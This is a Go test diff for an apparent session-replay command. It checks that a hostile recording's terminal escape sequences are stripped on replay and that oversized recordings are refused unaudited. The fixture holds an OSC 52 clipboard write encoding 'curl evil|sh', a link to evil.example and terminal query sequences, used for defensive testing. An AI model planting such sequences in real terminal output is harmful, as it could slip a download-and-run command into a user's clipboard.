@@ -205,3 +205,37 @@ func TestInteractiveReplay(t *testing.T) {
 		t.Errorf("exit %d", code)
 	}
 }
+
+// What the recorded person planted in their output draws on the admin's
+// terminal but never acts on it; --cast stays byte-exact. A recording larger
+// than the node's bound is refused before it is copied whole.
+func TestSessionsReplayHostileAndLarge(t *testing.T) {
+	h, recs := newReplayHarness(t)
+	hostile := `{"version":2,"width":80,"height":24,"timestamp":1772366400}
+[0.1,"o","\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\"]
+[0.2,"o","\u001bP$qm\u001b\\\u001b[6n\u001b[c\u001b[1mbold\u001b[0m\r\n"]
+`
+	recs.files["sess-gggg7777"] = hostile
+	recordedSession(h, "sess-gggg7777", "n2", hostile)
+
+	out := h.mustRun("sessions", "replay", "sess-gggg7777", "--speed", "0")
+	want := "click\x1b[1mbold\x1b[0m\r\n" + terminalReset + "\nend of session sess-gggg7777\n"
+	if out != want {
+		t.Errorf("replay of a hostile recording\n got %q\nwant %q", out, want)
+	}
+	if got := h.mustRun("sessions", "replay", "sess-gggg7777", "--cast"); got != hostile {
+		t.Errorf("--cast is not byte-exact: %q", got)
+	}
+
+	h.sh.maxRecording = int64(len(castFile) - 1)
+	before := len(h.auditEvents())
+	r := h.run("sessions", "replay", "sess-cccc3333", "--speed", "0")
+	if r.code != ExitError || r.stdout != "" || !strings.Contains(r.stderr, "larger than this node replays") {
+		t.Fatalf("oversized recording: %s", r)
+	}
+	if len(h.auditEvents()) != before {
+		t.Error("a refused oversized replay was audited")
+	}
+	h.sh.maxRecording = int64(len(castFile))
+	h.mustRun("sessions", "replay", "sess-cccc3333", "--speed", "0")
+}
